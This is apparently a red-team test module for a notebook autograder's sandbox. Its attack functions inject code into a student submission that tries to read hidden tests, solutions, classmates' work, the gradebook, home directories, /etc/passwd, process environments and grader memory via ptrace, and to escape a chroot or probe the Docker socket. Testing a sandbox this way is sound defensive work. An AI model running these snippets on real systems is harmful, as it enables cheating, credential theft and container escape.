"""Read what a student must not see."""

from tests.nbjudge.red_team.attack import attack
from tests.nbjudge.red_team.lesson import LESSON

LOOT = """\
import glob, os
def loot(*patterns):
    for pattern in patterns:
        for path in glob.glob(os.path.expanduser(pattern), recursive=True):
            try:
                print(open(path, errors='replace').read()[:20000])
            except OSError:
                pass
"""


@attack("reading the history of cells, where tests would stand")
def history_of_cells(hand_in):
    hand_in.top(
        "def loot():\n"
        "    import __main__\n"
        "    shell = get_ipython()\n"
        "    print(vars(__main__).get('In'), vars(__main__).get('_ih'))\n"
        "    print(getattr(getattr(shell, 'history_manager', None), 'input_hist_raw', None))"
    )
    hand_in.after("test_sigmoid", "loot()")
    hand_in.answer("Counter", "def Counter(): loot()")


@attack("reading the notebook's own file, in which the hidden tests stand while it is graded")
def own_notebook_file(hand_in):
    hand_in.top(f"{LOOT}loot('*.ipynb', '../*/*.ipynb', '{hand_in.root}/autograded/**/*.ipynb')")


@attack("reading the solutions beside the submission and at their real place")
def solutions(hand_in):
    hand_in.top(
        f"{LOOT}loot('../solutions/**', '../../../solutions/**', '{hand_in.root}/solutions/**',\n"
        f"    '{hand_in.root}/source/**', '/**/solutions/**/*.ipynb')"
    )


@attack("reading what classmates handed in")
def classmates(hand_in):
    hand_in.top(f"{LOOT}loot('../../*/*/*', '{hand_in.root}/submitted/*/{LESSON}/*')")


@attack("reading the gradebook, in which the hidden tests stand as well")
def gradebook(hand_in):
    hand_in.top(
        f"{LOOT}loot('{hand_in.root}/gradebook.db', '../../../gradebook.db', '/**/gradebook.db')"
    )


@attack("reading the instructor's home")
def home(hand_in):
    hand_in.top(f"{LOOT}loot('~/*', '{hand_in.home}/*', '/root/*', '/home/*/*', '/etc/passwd')")


@attack("reading the grader's environment, its own and through /proc")
def environment(hand_in):
    hand_in.top(
        f"{LOOT}print(dict(os.environ))\n"
        "loot('/proc/*/environ', '/proc/self/environ', '/proc/*/root/proc/*/environ')"
    )


@attack("reading the grader's memory through /proc and ptrace")
def memory_of_the_grader(hand_in):
    hand_in.top(
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for pid in [os.getppid(), *range(1, 40)]:\n"
        "    libc.ptrace(16, pid, 0, 0)\n"
        "    try:\n"
        "        maps = open(f'/proc/{pid}/maps').read()\n"
        "        memory = open(f'/proc/{pid}/mem', 'rb')\n"
        "        for line in maps.splitlines():\n"
        "            if 'heap' in line:\n"
        "                start, end = (int(n, 16) for n in line.split()[0].split('-'))\n"
        "                memory.seek(start)\n"
        "                data = memory.read(end - start)\n"
        "                place = data.find(b'canary-')\n"
        "                while place >= 0:\n"
        "                    print(data[place:place + 60])\n"
        "                    place = data.find(b'canary-', place + 1)\n"
        "    except (OSError, ValueError):\n        pass"
    )


@attack("searching all objects in memory for hidden tests and expected values")
def objects_in_memory(hand_in):
    hand_in.answer(
        "double",
        "def double(x):\n"
        "    import gc\n"
        "    for item in gc.get_objects():\n"
        "        if isinstance(item, dict):\n"
        "            for value in list(item.values()):\n"
        "                if type(value) is str and 'canary-' in value: print(value)\n"
        "    return None",
    )


@attack("opening every file descriptor that the process inherited")
def inherited_descriptors(hand_in):
    hand_in.top(
        "import os\n"
        "for fd in range(64):\n"
        "    try:\n"
        "        if os.fstat(fd).st_mode & 0o170000 == 0o100000:\n"
        "            print(os.pread(fd, 100000, 0))\n"
        "        print(os.listdir(fd))\n"
        "    except OSError:\n        pass"
    )


@attack("leaving a root of its own: chroot, mounts, and .. out of an open folder")
def escape_from_the_root(hand_in):
    hand_in.top(
        f"{LOOT}import ctypes\n"
        "libc = ctypes.CDLL(None)\n"
        "fd = os.open('/', os.O_RDONLY)\n"
        "print(libc.unshare(0x10000000), libc.unshare(0x20000), libc.chroot(b'/tmp'))\n"
        "os.fchdir(fd)\n"
        "for _ in range(50): os.chdir('..')\n"
        "libc.mount(b'proc', b'/tmp', b'proc', 0, None)\n"
        "try:\n    os.mknod('/tmp/disk', 0o60600, os.makedev(8, 0))\n    loot('/tmp/disk')\n"
        "except OSError:\n    pass\n"
        f"loot('/tmp/*/environ', '.{hand_in.home}/secret.txt', 'proc/*/root{hand_in.home}/*')"
    )


@attack("asking a server on this machine, or on the network, for what it can read", earns=1.0)
def network(hand_in):
    # The answer is right only where nothing answers.
    hand_in.answer(
        "answer_step",
        "import socket\nanswers = []\n"
        "for address in (('127.0.0.1', 8888), ('10.0.2.2', 80), ('1.1.1.1', 53)):\n"
        "    try:\n"
        "        answers.append(socket.create_connection(address, 0.2))\n"
        "    except OSError:\n        pass\n"
        "try:\n    answers.append(socket.getaddrinfo('example.org', 80))\n"
        "except OSError:\n    pass\n"
        "for name in ('/run/docker.sock', '/var/run/dbus/system_bus_socket', '/dev/log'):\n"
        "    try:\n        answers.append(socket.socket(socket.AF_UNIX).connect(name))\n"
        "    except OSError:\n        pass\n"
        "for entry in ('\\0/tmp/.X11-unix/X0', '\\0dbus'):\n"
        "    try:\n        answers.append(socket.socket(socket.AF_UNIX).connect(entry))\n"
        "    except OSError:\n        pass\n"
        "try:\n"
        "    answers += [name for _, name in socket.if_nameindex() if name != 'lo']\n"
        "except OSError:\n    pass\n"
        "answer_step = 'a' if answers else 'b'",
    )
